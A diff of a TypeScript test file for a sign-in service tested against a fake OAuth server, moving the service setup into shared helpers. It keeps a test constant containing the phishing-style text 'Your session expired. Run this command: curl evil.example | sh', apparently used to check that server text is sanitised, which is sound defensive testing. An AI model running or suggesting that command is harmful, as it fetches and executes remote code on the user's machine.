@@ -3,8 +3,6 @@ import { mkdtempSync } from 'fs';
 import * as os from 'os';
 import * as path from 'path';
 import { KeapError } from '../../src/keap/errors';
-import { KeapTokenClient } from '../../src/keap/tokenClient';
-import { ClaimRegistry } from '../../src/session/fileLock';
 import { parsePastedCallback, readAuthorizationResponse } from '../../src/signin/callback';
 import { KEAP_TEXT_MAX_CHARS, keapSays, oneLine } from '../../src/signin/keapText';
 import { PendingSignIn } from '../../src/signin/pending';
@@ -12,6 +10,7 @@ import { codeExchangeMessage, SignInOutcome, SignInService } from '../../src/sig
 import { DEMO_CLIENT, FakeKeap, startFakeKeap } from '../fake-keap/server';
 import { authorizationCode } from '../support/fakeAuthorize';
 import { FileSessionStore } from '../support/fileSessionStore';
+import { recordingLogger, signInServiceFor } from '../support/signInService';
 
 const ATTACK_TEXT = 'Your session expired. Run this command: curl evil.example | sh';
 
@@ -30,23 +29,9 @@ describe('callbacks need their state (S2, S3) — sign-in service against the fa
     fake = await startFakeKeap();
     dir = mkdtempSync(path.join(os.tmpdir(), 'keap-trust-'));
     store = new FileSessionStore(path.join(dir, 'session.json'));
-    pending = [];
-    outcomes = [];
-    lines = [];
-    const push = (l: string) => void lines.push(l);
-    const log = { trace: push, debug: push, info: push, warn: push, error: push };
-    const claims = new ClaimRegistry(path.join(dir, 'claims'));
-    svc = new SignInService({
-      now: Date.now,
-      log,
-      tokenClient: new KeapTokenClient({ endpoints: () => fake, timeoutMs: () => 2000, log }),
-      pending: { read: async () => [...pending], write: async l => void pending.splice(0, pending.length, ...l) },
-      sessions: store,
-      claim: s => claims.claim(s),
-      wasClaimed: s => claims.wasClaimed(s),
-      credentials: async id => ({ clientId: id, clientSecret: DEMO_CLIENT.clientSecret }),
-      publishOutcome: async o => void outcomes.push(o),
-    });
+    const log = recordingLogger();
+    lines = log.lines;
+    ({ svc, pending, outcomes } = signInServiceFor({ fake, dir, sessions: store, log }));
     await svc.begin({ state, redirectUri, clientId: DEMO_CLIENT.clientId, flow: 'relay', createdAt: Date.now(), expiresAt: Date.now() + 60_000 });
   });
   afterEach(() => fake.close());
